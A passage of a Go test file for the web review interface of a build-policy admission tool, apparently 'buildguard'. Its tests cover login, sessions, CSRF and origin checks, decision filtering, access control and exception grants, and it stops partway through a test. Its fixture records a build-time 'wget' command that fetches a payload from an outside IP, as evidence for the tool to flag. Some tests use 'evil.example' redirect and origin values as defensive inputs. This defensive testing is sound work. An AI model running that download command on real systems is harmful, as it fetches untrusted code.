package review

import (
	"context"
	cryptorand "crypto/rand"
	"encoding/base64"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"buildguard.dev/buildguard/decision"
	"buildguard.dev/buildguard/engine"
	"buildguard.dev/buildguard/evidence"
	"buildguard.dev/buildguard/internal/clock/clocktest"
	"buildguard.dev/buildguard/internal/shorten"
	"buildguard.dev/buildguard/kubeauth"
	"buildguard.dev/buildguard/policy"
	"buildguard.dev/buildguard/policysource"
	"buildguard.dev/buildguard/records"
)

var update = flag.Bool("update", false, "rewrite golden files")

var t0 = time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)

// fakeAuth authenticates the tokens it knows; err, when set, is what it
// returns for every token (the API server being down).
type fakeAuth struct {
	users map[string]User
	err   error
}

func (f fakeAuth) Authenticate(_ context.Context, token string) (User, error) {
	if f.err != nil {
		return User{}, f.err
	}
	u, ok := f.users[token]
	if !ok {
		return User{}, &kubeauth.Error{Code: 401, Reason: "token expired"}
	}
	return u, nil
}

// fakeAuthz allows "user verb resource namespace" strings; "*" as the
// namespace is a cluster-wide grant. It counts calls.
type fakeAuthz struct {
	mu    sync.Mutex
	allow map[string]bool
	calls int
}

func (f *fakeAuthz) Allowed(_ context.Context, u User, a Attributes) (bool, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.calls++
	if a.Group != "buildguard.dev" {
		return false, nil
	}
	if f.allow[u.Name+" "+a.Verb+" "+a.Resource+" *"] {
		return true, nil
	}
	return a.Namespace != "" && f.allow[u.Name+" "+a.Verb+" "+a.Resource+" "+a.Namespace], nil
}

type fakeGranter struct {
	mu     sync.Mutex
	grants []policysource.Grant
	err    error
}

func (f *fakeGranter) Grant(_ context.Context, g policysource.Grant) (string, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.err != nil {
		return "", f.err
	}
	f.grants = append(f.grants, g)
	return fmt.Sprintf("%s/review-%d", g.Namespace, len(f.grants)), nil
}

// fixedRandom is a deterministic source for golden pages.
type fixedRandom struct{}

func (fixedRandom) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(i)
	}
	return len(p), nil
}

type fixture struct {
	t       testing.TB
	h       *Handler
	clock   *clocktest.Clock
	store   evidence.Store
	authz   *fakeAuthz
	granter *fakeGranter
	// exceptionsFile is the path of exceptionsFixture's exceptions file.
	exceptionsFile string
}

var (
	admin   = User{Name: "alice", UID: "u-1", Groups: []string{"platform", "system:authenticated"}}
	viewer  = User{Name: "bob", UID: "u-2", Groups: []string{"system:authenticated"}}
	shopper = User{Name: "carol", UID: "u-3"}
)

func newFixture(t testing.TB) *fixture {
	t.Helper()
	st, err := evidence.OpenSQLite(t.Context(), filepath.Join(t.TempDir(), "review.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	f := &fixture{t: t, clock: clocktest.New(t0), store: st, granter: &fakeGranter{},
		authz: &fakeAuthz{allow: map[string]bool{
			"alice list decisions *": true, "alice create buildpolicyexceptions *": true,
			"alice list buildpolicyexceptions *": true, "alice delete buildpolicyexceptions *": true,
			"bob list decisions *": true, "bob list buildpolicyexceptions *": true,
			"carol list decisions shop": true, "carol create buildpolicyexceptions shop": true,
			"carol list buildpolicyexceptions shop": true, "carol delete buildpolicyexceptions shop": true,
		}}}
	f.h, err = New(Config{
		Store:         st,
		Authenticator: fakeAuth{users: map[string]User{"alice-token": admin, "bob-token": viewer, "carol-token": shopper}},
		Authorizer:    f.authz,
		Granter:       f.granter,
		Key:           []byte(strings.Repeat("k", 32)),
		Clock:         f.clock,
		Random:        fixedRandom{},
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range testDecisions() {
		if err := st.AddDecision(t.Context(), d); err != nil {
			t.Fatal(err)
		}
	}
	return f
}

// testDecisions are records as the webhook makes them: a deny in shop
// with node evidence, a would-deny of a fresh image in staging, a warn
// and an allow.
func testDecisions() []evidence.Decision {
	p, err := policy.Compile(policy.Spec{
		Registries:     policy.Registries{Allow: []string{"registry.example/**"}},
		TrustedSources: []string{"deb.debian.org"},
		NodeEvidence:   &policy.NodeEvidence{ApprovedBuildNodes: []string{"ci-runner-*"}, TrustedDestinations: []string{"10.0.0.0/8"}},
	})
	if err != nil {
		panic(err)
	}
	built := t0.Add(-2 * time.Hour)
	nodeBuilt := policy.Facts{Namespace: "shop", Now: t0.Add(-10 * time.Minute), Containers: []policy.Container{{
		Name: "app", Image: "registry.example/shop/api:1.4",
		Resolved: &policy.Image{Digest: "sha256:" + strings.Repeat("a", 64), Platforms: []policy.Platform{{
			Digest: "sha256:" + strings.Repeat("a", 64), ConfigDigest: "sha256:" + strings.Repeat("c", 64), Created: built.Add(time.Minute)}}},
		Builds: []policy.BuildEvidence{{
			Source: "ebpf", Node: "worker-3", Tool: "docker", ImageID: "sha256:" + strings.Repeat("c", 64), MatchedBy: "image-id",
			Started: built, Finished: built.Add(time.Minute),
			Connections: []policy.ConnectionEvidence{{Source: "ebpf", Node: "worker-3", Time: built.Add(20 * time.Second),
				Process: "wget", PID: 4242, Cmdline: "wget -q http://203.0.113.9:8080/payload", DestIP: netip.MustParseAddr("203.0.113.9"), DestPort: 8080}},
		}},
	}}}
	fresh := policy.Facts{Namespace: "staging", NamespaceMode: "audit", Now: t0.Add(-5 * time.Minute), Containers: []policy.Container{{
		Name: "web", Image: "registry.example/web/site:2",
		Resolved: &policy.Image{Digest: "sha256:" + strings.Repeat("b", 64), Platforms: []policy.Platform{{
			Digest: "sha256:" + strings.Repeat("b", 64), ConfigDigest: "sha256:" + strings.Repeat("d", 64), Created: t0.Add(-7 * time.Minute)}}},
	}}}
	clean := policy.Facts{Namespace: "shop", Now: t0.Add(-3 * time.Minute), Containers: []policy.Container{{
		Name: "app", Image: "registry.example/shop/api:1.3",
		Resolved: &policy.Image{Digest: "sha256:" + strings.Repeat("e", 64), Platforms: []policy.Platform{{
			Digest: "sha256:" + strings.Repeat("e", 64), Created: t0.Add(-96 * time.Hour)}}},
	}}}
	warnP, err := policy.Compile(policy.Spec{Registries: policy.Registries{Allow: []string{"registry.example/**"}},
		Rules: map[policy.RuleID]policy.Action{policy.RuleFreshImage: policy.ActionWarn}})
	if err != nil {
		panic(err)
	}
	warned := policy.Facts{Namespace: "staging", Now: t0.Add(-2 * time.Minute), Containers: []policy.Container{{
		Name: "web", Image: "registry.example/web/site:3",
		Resolved: &policy.Image{Digest: "sha256:" + strings.Repeat("f", 64), Platforms: []policy.Platform{{
			Digest: "sha256:" + strings.Repeat("f", 64), Created: t0.Add(-9 * time.Minute)}}},
	}}}
	rec := func(uid, kind, name string, pol *policy.Policy, f policy.Facts) evidence.Decision {
		return records.FromDecision(decision.Decision{
			ID: uid, Source: decision.Admission, Operation: "CREATE",
			User: "system:serviceaccount:ci:deployer", Groups: []string{"system:serviceaccounts"},
			Workload: engine.Workload{Namespace: f.Namespace, Kind: kind, Name: name}, Verdict: policy.Decide(pol, f), Time: f.Now,
		})
	}
	return []evidence.Decision{
		rec("0d1e5a7c-1111-4a4a-9b9b-000000000001", "Deployment", "api", p, nodeBuilt),
		rec("0d1e5a7c-2222-4a4a-9b9b-000000000002", "Pod", "site", p, fresh),
		rec("0d1e5a7c-3333-4a4a-9b9b-000000000003", "Pod", "api-old", p, clean),
		rec("0d1e5a7c-4444-4a4a-9b9b-000000000004", "Pod", "site-3", warnP, warned),
	}
}

// do serves one request. Forms are posted from this site, as a browser
// would send them, unless hdr says otherwise.
func (f *fixture) do(method, target string, form url.Values, cookie *http.Cookie, hdr ...string) *httptest.ResponseRecorder {
	f.t.Helper()
	var r *http.Request
	if form != nil {
		r = httptest.NewRequest(method, target, strings.NewReader(form.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Sec-Fetch-Site", "same-origin")
		r.Header.Set("Origin", "https://example.com")
	} else {
		r = httptest.NewRequest(method, target, nil)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		if hdr[i+1] == "" {
			r.Header.Del(hdr[i])
		} else {
			r.Header.Set(hdr[i], hdr[i+1])
		}
	}
	if cookie != nil {
		r.AddCookie(cookie)
	}
	w := httptest.NewRecorder()
	f.h.ServeHTTP(w, r)
	return w
}

// login logs in with token and returns the session cookie and its CSRF
// token.
func (f *fixture) login(token string) (*http.Cookie, string) {
	f.t.Helper()
	w := f.do("POST", "/login", url.Values{"token": {token}}, nil)
	if w.Code != http.StatusSeeOther {
		f.t.Fatalf("POST /login = %d, want 303\n%s", w.Code, w.Body)
	}
	for _, c := range w.Result().Cookies() {
		if c.Name == CookieName {
			s, err := f.h.codec.decode(c.Value, f.clock.Now())
			if err != nil {
				f.t.Fatal(err)
			}
			return c, s.CSRF
		}
	}
	f.t.Fatal("no session cookie")
	return nil, ""
}

func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if string(want) != string(got) {
		t.Errorf("%s mismatch (run with -update after checking): %s", name, firstDiff(string(want), string(got)))
	}
}

// text is what a person reads of an HTML page: tags dropped, entities of
// the few characters templates escape decoded, white space collapsed.
func text(html string) string {
	s := regexp.MustCompile(`(?s)<style.*?</style>|<[^>]*>`).ReplaceAllString(html, " ")
	s = strings.NewReplacer("&lt;", "<", "&gt;", ">", "&#34;", `"`, "&#39;", "'", "&amp;", "&", "&larr;", "←").Replace(s)
	return strings.Join(strings.Fields(s), " ")
}

func TestUnauthenticated(t *testing.T) {
	f := newFixture(t)
	for _, tc := range []struct {
		method, target string
		form           url.Values
		want           int
		location       string
	}{
		{"GET", "/", nil, http.StatusSeeOther, "/login?next=%2F"},
		{"GET", "/?namespace=shop", nil, http.StatusSeeOther, "/login?next=%2F%3Fnamespace%3Dshop"},
		{"GET", "/decisions/0d1e5a7c-1111-4a4a-9b9b-000000000001", nil, http.StatusSeeOther, "/login?next=%2Fdecisions%2F0d1e5a7c-1111-4a4a-9b9b-000000000001"},
		{"GET", "/decisions/0d1e5a7c-1111-4a4a-9b9b-000000000001/raw", nil, http.StatusSeeOther, "/login?next=%2Fdecisions%2F0d1e5a7c-1111-4a4a-9b9b-000000000001%2Fraw"},
		{"GET", "/nope", nil, http.StatusSeeOther, "/login?next=%2Fnope"},
		{"POST", "/decisions/0d1e5a7c-1111-4a4a-9b9b-000000000001/exceptions", url.Values{"reason": {"x"}}, http.StatusUnauthorized, ""},
		{"GET", "/login", nil, http.StatusOK, ""},
		{"GET", "/static/review.css", nil, http.StatusOK, ""},
	} {
		w := f.do(tc.method, tc.target, tc.form, nil)
		if w.Code != tc.want || w.Header().Get("Location") != tc.location {
			t.Errorf("%s %s = %d %q, want %d %q", tc.method, tc.target, w.Code, w.Header().Get("Location"), tc.want, tc.location)
		}
		if strings.Contains(w.Body.String(), "shop/api") {
			t.Errorf("%s %s shows a decision without a session", tc.method, tc.target)
		}
	}
	if len(f.granter.grants) != 0 {
		t.Errorf("granted without a session: %v", f.granter.grants)
	}
}

func TestLogin(t *testing.T) {
	for _, tc := range []struct {
		name, token, next string
		authErr           error
		want              int
		location          string
		body              string
	}{
		{name: "valid", token: "alice-token", want: http.StatusSeeOther, location: "/"},
		{name: "valid with next", token: " alice-token\n", next: "/decisions/x?y=1", want: http.StatusSeeOther, location: "/decisions/x?y=1"},
		{name: "next to another site", token: "alice-token", next: "//evil.example/", want: http.StatusSeeOther, location: "/"},
		{name: "next with a scheme", token: "alice-token", next: "https://evil.example/", want: http.StatusSeeOther, location: "/"},
		{name: "next with a backslash", token: "alice-token", next: "/\\evil.example", want: http.StatusSeeOther, location: "/"},
		{name: "empty", token: "  ", want: http.StatusBadRequest, body: "Paste a bearer token."},
		{name: "too long", token: strings.Repeat("x", maxTokenLen+1), want: http.StatusBadRequest, body: "longer than"},
		{name: "unknown", token: "mallory", want: http.StatusUnauthorized, body: "The token was not accepted: token expired"},
		{name: "API server down", token: "alice-token", authErr: errors.New("connection refused"), want: http.StatusBadGateway, body: "could not be checked"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			if tc.authErr != nil {
				f.h.c.Authenticator = fakeAuth{err: tc.authErr}
			}
			w := f.do("POST", "/login", url.Values{"token": {tc.token}, "next": {tc.next}}, nil)
			if w.Code != tc.want || w.Header().Get("Location") != tc.location || !strings.Contains(w.Body.String(), tc.body) {
				t.Fatalf("POST /login = %d %q, want %d %q with %q\n%s", w.Code, w.Header().Get("Location"), tc.want, tc.location, tc.body, w.Body)
			}
			cookies := w.Result().Cookies()
			if tc.want != http.StatusSeeOther {
				if len(cookies) != 0 {
					t.Errorf("cookies set on a refused login: %v", cookies)
				}
				return
			}
			if len(cookies) != 1 {
				t.Fatalf("cookies %v, want one", cookies)
			}
			c := cookies[0]
			if c.Name != CookieName || !c.HttpOnly || !c.Secure || c.SameSite != http.SameSiteStrictMode || c.Path != "/" || c.Domain != "" || c.MaxAge != 3600 {
				t.Errorf("cookie %+v: want __Host-, HttpOnly, Secure, SameSite=Strict, Path=/, no Domain, an hour", c)
			}
			if strings.Contains(c.Value, "alice-token") {
				t.Error("the cookie holds the token")
			}
		})
	}
}

func TestLoginFromAnotherSite(t *testing.T) {
	f := newFixture(t)
	for _, hdr := range [][]string{
		{"Sec-Fetch-Site", "cross-site"},
		{"Sec-Fetch-Site", "", "Origin", "https://evil.example"},
	} {
		w := f.do("POST", "/login", url.Values{"token": {"alice-token"}}, nil, hdr...)
		if w.Code != http.StatusForbidden || len(w.Result().Cookies()) != 0 {
			t.Errorf("login with %q = %d (cookies %v), want 403 and no session", hdr, w.Code, w.Result().Cookies())
		}
	}
}

func TestSessionCookie(t *testing.T) {
	f := newFixture(t)
	c, _ := f.login("alice-token")
	if w := f.do("GET", "/", nil, c); w.Code != http.StatusOK {
		t.Fatalf("GET / with a session = %d", w.Code)
	}
	payload, sig, _ := strings.Cut(c.Value, ".")
	forged := *c
	var s session
	b, _ := jsonB64(payload)
	_ = json.Unmarshal(b, &s)
	s.User.Name = "admin"
	other := sessionCodec{key: []byte(strings.Repeat("z", 32))}
	otherValue, _ := other.encode(s)
	for name, v := range map[string]string{
		"tampered payload":  b64JSON(s) + "." + sig,
		"other key":         otherValue,
		"no signature":      payload,
		"garbage":           "%%%.%%%",
		"empty":             "",
		"signature of none": "." + sig,
	} {
		forged.Value = v
		if w := f.do("GET", "/", nil, &forged); w.Code != http.StatusSeeOther {
			t.Errorf("%s: GET / = %d, want a redirect to the login", name, w.Code)
		}
	}
	f.clock.Advance(time.Hour)
	if w := f.do("GET", "/", nil, c); w.Code != http.StatusSeeOther {
		t.Errorf("after the session's hour: GET / = %d, want a redirect to the login", w.Code)
	}
}

func TestSecurityHeaders(t *testing.T) {
	f := newFixture(t)
	c, _ := f.login("alice-token")
	for _, target := range []string{"/login", "/", "/decisions/0d1e5a7c-1111-4a4a-9b9b-000000000001"} {
		w := f.do("GET", target, nil, c)
		for k, want := range map[string]string{
			"Content-Security-Policy": "default-src 'self'; frame-ancestors 'none'; form-action 'self'; base-uri 'none'; object-src 'none'",
			"X-Frame-Options":         "DENY",
			"Cache-Control":           "no-store",
			"X-Content-Type-Options":  "nosniff",
			"Referrer-Policy":         "no-referrer",
		} {
			if got := w.Header().Get(k); got != want {
				t.Errorf("GET %s: %s = %q, want %q", target, k, got, want)
			}
		}
		if body := w.Body.String(); strings.Contains(body, "<script") || regexp.MustCompile(`(src|href|action)="(https?:)?//`).MatchString(body) || strings.Contains(body, "style=") {
			t.Errorf("GET %s: a script, an external URL or an inline style in the page", target)
		}
	}
}

func TestListGolden(t *testing.T) {
	f := newFixture(t)
	c, _ := f.login("alice-token")
	w := f.do("GET", "/decisions", nil, c)
	if w.Code != http.StatusOK {
		t.Fatalf("GET /decisions = %d\n%s", w.Code, w.Body)
	}
	checkGolden(t, "list.html.golden", w.Body.Bytes())
}

// rowIDs are the decision IDs a list page links to, in order.
func rowIDs(body string) []string {
	var ids []string
	for _, m := range regexp.MustCompile(`href="/decisions/([^"/]+)"`).FindAllStringSubmatch(body, -1) {
		ids = append(ids, m[1][len(m[1])-1:])
	}
	return ids
}

func TestListFilters(t *testing.T) {
	f := newFixture(t)
	c, _ := f.login("alice-token")
	for _, tc := range []struct {
		query string
		want  []string // last digit of each ID, newest first
	}{
		{"", []string{"2", "1"}},
		{"?namespace=shop", []string{"1"}},
		{"?namespace=staging", []string{"2"}},
		{"?rule=fresh-image", []string{"2"}},
		{"?rule=host-built", []string{"1"}},
		{"?rule=untrusted-egress&namespace=shop", []string{"1"}},
		{"?rule=host-built&namespace=staging", nil},
		{"?image=registry.example/web/*", []string{"2"}},
		{"?image=REGISTRY.EXAMPLE/SHOP/API:1.4", []string{"1"}},
		{"?image=sha256:aaaa*", []string{"1"}},
		{"?verdict=allow", []string{"3"}},
		{"?verdict=warn&verdict=allow", []string{"4", "3"}},
		{"?verdict=deny", []string{"1"}},
		{"?verdict=deny&verdict=would-deny&verdict=warn&verdict=allow", []string{"4", "3", "2", "1"}},
		{"?since=6m&verdict=deny&verdict=would-deny&verdict=warn&verdict=allow", []string{"4", "3", "2"}},
		{"?since=1d", []string{"2", "1"}},
		{"?since=all&limit=1", []string{"2"}},
	} {
		w := f.do("GET", "/decisions"+tc.query, nil, c)
		if w.Code != http.StatusOK {
			t.Errorf("GET /decisions%s = %d\n%s", tc.query, w.Code, w.Body)
			continue
		}
		if got := rowIDs(w.Body.String()); !slices.Equal(got, tc.want) {
			t.Errorf("GET /decisions%s lists %v, want %v", tc.query, got, tc.want)
		}
		// Links to the list from before it moved lead to it.
		if tc.query != "" {
			if w := f.do("GET", "/"+tc.query, nil, c); w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/decisions"+tc.query {
				t.Errorf("GET /%s = %d %q, want a redirect to /decisions%s", tc.query, w.Code, w.Header().Get("Location"), tc.query)
			}
		}
	}
}

func TestListBadInput(t *testing.T) {
	f := newFixture(t)
	c, _ := f.login("alice-token")
	for query, want := range map[string]string{
		"?since=yesterday":                   `since "yesterday": want a duration`,
		"?since=-5m":                         `since "-5m"`,
		"?since=0d":                          `since "0d"`,
		"?namespace=Shop_1":                  `namespace "Shop_1" is not a namespace name`,
		"?rule=fresh%20image":                `rule "fresh image" is not a rule ID`,
		"?verdict=maybe":                     `verdict "maybe": want one of deny, would-deny, warn, allow`,
		"?limit=0":                           `limit "0": want a number from 1 to 1000`,
		"?limit=1001":                        `limit "1001"`,
		"?image=" + strings.Repeat("a", 513): "longer than 512 characters",
		"?image=%00":                         "not printable text",
	} {
		w := f.do("GET", "/decisions"+query, nil, c)
		if w.Code != http.StatusBadRequest || !strings.Contains(text(w.Body.String()), want) {
			t.Errorf("GET /decisions%s = %d, want 400 saying %q\n%s", shorten.Text(query, 60), w.Code, want, text(w.Body.String()))
		}
		if ids := rowIDs(w.Body.String()); len(ids) > 0 {
			t.Errorf("GET /decisions%s lists %v on bad input", shorten.Text(query, 60), ids)
		}
	}
}

func TestListNamespaceAccess(t *testing.T) {
	f := newFixture(t)
	c, _ := f.login("carol-token") // may list shop only
	all := "?verdict=deny&verdict=would-deny&verdict=warn&verdict=allow"
	w := f.do("GET", "/decisions"+all, nil, c)
	if got := rowIDs(w.Body.String()); w.Code != http.StatusOK || !slices.Equal(got, []string{"3", "1"}) {
		t.Errorf("carol's list = %d %v, want 200 [3 1] (shop only)", w.Code, got)
	}
	if !strings.Contains(w.Body.String(), "Only decisions in namespaces you may list are shown.") {
		t.Error("no note that rows were left out")
	}
	if w := f.do("GET", "/decisions"+all+"&namespace=staging", nil, c); w.Code != http.StatusForbidden ||
		!strings.Contains(w.Body.String(), "You (carol) may not list decisions in namespace staging.") {
		t.Errorf("carol's list of staging = %d, want 403\n%s", w.Code, w.Body)
	}
	// The newest decisions of other namespaces do not crowd out carol's:
	// the newest two are staging's, her limit of one is shop's newest.
	if got := rowIDs(f.do("GET", "/decisions"+all+"&limit=1", nil, c).Body.String()); !slices.Equal(got, []string{"3"}) {
		t.Errorf("carol's list with limit 1 = %v, want [3]", got)
	}
	// Answers are cached within the session: a second page costs no
	// authorization calls.
	before := f.authz.calls
	f.do("GET", "/decisions"+all, nil, c)
	if f.authz.calls != before {
		t.Errorf("a second list made %d authorization calls, want 0 (cached)", f.authz.calls-before)
	}
	f.clock.Advance(DefaultAuthzCacheTTL)
	f.do("GET", "/decisions"+all, nil, c)
	if f.authz.calls == before {
		t.Error("authorization answers outlived the cache TTL")
	}

	// A user with no permission at all sees nothing.
	f.authz.allow = map[string]bool{}
	f.clock.Advance(DefaultAuthzCacheTTL)
	if got := rowIDs(f.do("GET", "/decisions"+all, nil, c).Body.String()); len(got) != 0 {
		t.Errorf("without permissions the list shows %v", got)
	}
}

const nodeBuiltID = "0d1e5a7c-1111-4a4a-9b9b-000000000001"

func TestDetailGolden(t *testing.T) {
	f := newFixture(t)
	c, _ := f.login("alice-token")
	w := f.do("GET", "/decisions/"+nodeBuiltID, nil, c)
	if w.Code != http.StatusOK {
		t.Fatalf("GET detail = %d\n%s", w.Code, w.Body)
	}
	checkGolden(t, "detail.html.golden", w.Body.Bytes())
	got := text(w.Body.String())
	// The evidence chain in the order it happened, as a person reads it.
	for _, want := range []string{
		"2026-12-01 10:00:00 UTC Objection: Built on node worker-3 with docker registry.example/shop/api:1.4 sha256:" + strings.Repeat("a", 64) + " finished 2026-12-01 10:01:00 UTC",
		"node worker-3 built this image with docker at 2026-12-01T10:01:00Z (matched by image-id), and worker-3 is not an approved build node",
		"2026-12-01 10:00:20 UTC Objection: wget (pid 4242) on worker-3 connected to 203.0.113.9:8080",
		"command: wget -q http://203.0.113.9:8080/payload",
		// The policy checks no signatures: it says so, in grey, not
		// "no finding" in green.
		"— Fact: Signatures not checked by this policy",
		"— Fact: Provenance not checked by this policy",
		"2026-12-01 11:50:00 UTC Objection: Denied create of Deployment shop/api by system:serviceaccount:ci:deployer (enforce mode) rules: host-built, untrusted-egress",
		"Red a rule objects and denies Amber a rule warns",
		"Grant exception for registry.example/shop/api@sha256:aaaa",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("detail page does not say %q\n%s", want, got)
		}
	}
	if strings.Index(got, "Built on node worker-3") > strings.Index(got, "connected to 203.0.113.9") {
		t.Error("the connection comes before the build in the timeline")
	}
}

func TestDetailFreshImage(t *testing.T) {
	f := newFixture(t)
	c, _ := f.login("bob-token")
	w := f.do("GET", "/decisions/0d1e5a7c-2222-4a4a-9b9b-000000000002", nil, c)
	got := text(w.Body.String())
	for _, want := range []string{
		"2026-12-01 11:53:00 UTC Objection: Image created registry.example/web/site:2 sha256:" + strings.Repeat("b", 64) + " config sha256:dddd",
		"time from the image config, which the build writes itself",
		"Warning: Admitted; would be denied (audit mode)",
		"You may not grant exceptions in namespace staging.",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("detail page does not say %q\n%s", want, got)
		}
	}
	if strings.Contains(w.Body.String(), `class="grant"`) {
		t.Error("bob, who may not create exceptions, sees a grant form")
	}
}

func TestDetailAccess(t *testing.T) {
	f := newFixture(t)
	c, _ := f.login("carol-token")
	for target, want := range map[string]int{
		"/decisions/" + nodeBuiltID:                           http.StatusOK,
		"/decisions/" + nodeBuiltID + "/raw":                  http.StatusOK,
		"/decisions/0d1e5a7c-2222-4a4a-9b9b-000000000002":     http.StatusNotFound, // staging
		"/decisions/0d1e5a7c-2222-4a4a-9b9b-000000000002/raw": http.StatusNotFound,
		"/decisions/no-such-decision":                         http.StatusNotFound,
		"/decisions/" + strings.Repeat("x", 300):              http.StatusNotFound,
		"/decisions/%ff%fe":                                   http.StatusNotFound,
	} {
		if w := f.do("GET", target, nil, c); w.Code != want {
			t.Errorf("GET %s = %d, want %d", shorten.Text(target, 60), w.Code, want)
		}
	}
}

func TestRaw(t *testing.T) {
	f := newFixture(t)
	c, _ := f.login("alice-token")
	w := f.do("GET", "/decisions/"+nodeBuiltID+"/raw", nil, c)
	if w.Code != http.StatusOK || w.Header().Get("Content-Type") != "application/json; charset=utf-8" {
		t.Fatalf("GET raw = %d %s", w.Code, w.Header().Get("Content-Type"))
	}
	d, err := f.store.Decision(t.Context(), nodeBuiltID)
	if err != nil {
		t.Fatal(err)
	}
	var got, want map[string]any
	if err := json.Unmarshal(w.Body.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(records.ToJSON(d))
	json.Unmarshal(b, &want)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("raw JSON (-want +got):\n%s", diff)
	}
	if !strings.Contains(w.Body.String(), `"destIP": "203.0.113.9"`) {
		t.Error("raw JSON lacks the connection evidence")
	}
}

func grantValues(csrf string, mod func(url.Values)) url.Values {
	v := url.Values{
		"csrf":    {csrf},
		"image":   {"registry.example/shop/api@sha256:" + strings.Repeat("a", 64)},
		"reason":  {"INC-1234: rebuilt in the pipeline tomorrow"},
		"expires": {"2026-12-08T12:00"},
	}
	if mod != nil {
		mod(v)
	}
	return v
}

func TestGrant(t *testing.T) {
	target := "/decisions/" + nodeBuiltID + "/exceptions"
	for _, tc := range []struct {
		name  string
		token string
		mod   func(url.Values)
		hdr   []string
		want  int
		body  string
	}{
		{name: "granted", token: "alice-token", want: http.StatusSeeOther},
		{name: "granted in the namespace only", token: "carol-token", want: http.StatusSeeOther},
		{name: "RFC 3339 expiry", token: "alice-token", mod: func(v url.Values) { v.Set("expires", "2026-12-31T00:00:00Z") }, want: http.StatusSeeOther},
		{name: "no CSRF token", token: "alice-token", mod: func(v url.Values) { v.Del("csrf") }, want: http.StatusForbidden, body: "does not match your session"},
		{name: "wrong CSRF token", token: "alice-token", mod: func(v url.Values) { v.Set("csrf", "x") }, want: http.StatusForbidden, body: "does not match your session"},
		{name: "cross-site", token: "alice-token", hdr: []string{"Sec-Fetch-Site", "cross-site"}, want: http.StatusForbidden, body: "did not come from this site"},
		{name: "other origin", token: "alice-token", hdr: []string{"Sec-Fetch-Site", "", "Origin", "https://evil.example"}, want: http.StatusForbidden, body: "did not come from this site"},
		{name: "no create permission", token: "bob-token", want: http.StatusForbidden, body: "You (bob) may not create buildpolicyexceptions in namespace shop."},
		{name: "image of another decision", token: "alice-token", mod: func(v url.Values) { v.Set("image", "registry.example/web/site@sha256:"+strings.Repeat("b", 64)) }, want: http.StatusBadRequest, body: "is not a digest of this decision"},
		{name: "tag instead of digest", token: "alice-token", mod: func(v url.Values) { v.Set("image", "registry.example/shop/api:1.4") }, want: http.StatusBadRequest, body: "is not a digest of this decision"},
		{name: "no reason", token: "alice-token", mod: func(v url.Values) { v.Set("reason", "  ") }, want: http.StatusBadRequest, body: "A reason is required"},
		{name: "reason too long", token: "alice-token", mod: func(v url.Values) { v.Set("reason", strings.Repeat("r", 501)) }, want: http.StatusBadRequest, body: "at most 500 characters"},
		{name: "reason with a control character", token: "alice-token", mod: func(v url.Values) { v.Set("reason", "a\x1bb") }, want: http.StatusBadRequest, body: "printable text"},
		{name: "no expiry", token: "alice-token", mod: func(v url.Values) { v.Del("expires") }, want: http.StatusBadRequest, body: "An expiry is required"},
		{name: "bad expiry", token: "alice-token", mod: func(v url.Values) { v.Set("expires", "next week") }, want: http.StatusBadRequest, body: `expiry "next week": want a UTC date and time`},
		{name: "past expiry", token: "alice-token", mod: func(v url.Values) { v.Set("expires", "2026-12-01T11:59") }, want: http.StatusBadRequest, body: "must be in the future"},
		{name: "expiry beyond the maximum", token: "alice-token", mod: func(v url.Values) { v.Set("expires", "2026-12-31T12:01") }, want: http.StatusBadRequest, body: "at most 30 days away (2026-12-31 12:00:00 UTC)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			c, csrf := f.login(tc.token)
			w := f.do("POST", target, grantValues(csrf, tc.mod), c, tc.hdr...)
			if w.Code != tc.want || !strings.Contains(text(w.Body.String()), tc.body) {
				t.Fatalf("POST = %d, want %d saying %q\n%s", w.Code, tc.want, tc.body, text(w.Body.String()))
			}
			if tc.want != http.StatusSeeOther {
				if len(f.granter.grants) != 0 {
					t.Errorf("granted anyway: %+v", f.granter.grants)
				}
				return
			}
			if loc := w.Header().Get("Location"); !strings.HasPrefix(loc, "/decisions/"+nodeBuiltID+"?granted=shop%2Freview-1&sig=") {
				t.Errorf("Location %q", loc)
			}
			if len(f.granter.grants) != 1 {
				t.Fatalf("grants %+v, want one", f.granter.grants)
			}
			g := f.granter.grants[0]
			form := grantValues(csrf, tc.mod)
			exp, _ := parseExpiry(form.Get("expires"))
			want := policysource.Grant{Namespace: "shop", Image: "registry.example/shop/api@sha256:" + strings.Repeat("a", 64),
				Reason: "INC-1234: rebuilt in the pipeline tomorrow", Expires: exp, At: t0, DecisionID: nodeBuiltID}
			want.GrantedBy = g.GrantedBy
			if diff := cmp.Diff(want, g); diff != "" || g.GrantedBy == "" {
				t.Errorf("grant by %q (-want +got):\n%s", g.GrantedBy, diff)
			}
			// The page it redirects to says so.
			page := text(f.do("GET", w.Header().Get("Location"), nil, c).Body.String())
			if !strings.Contains(page, "Exception shop/review-1 granted.") {
				t.Errorf("no confirmation on the detail page:\n%s", page)
			}
		})
	}
}

func TestGrantFails(t *testing.T) {
	f := newFixture(t)
	f.granter.err = errors.New(`buildpolicyexceptions.buildguard.dev is forbidden`)
	c, csrf := f.login("alice-token")
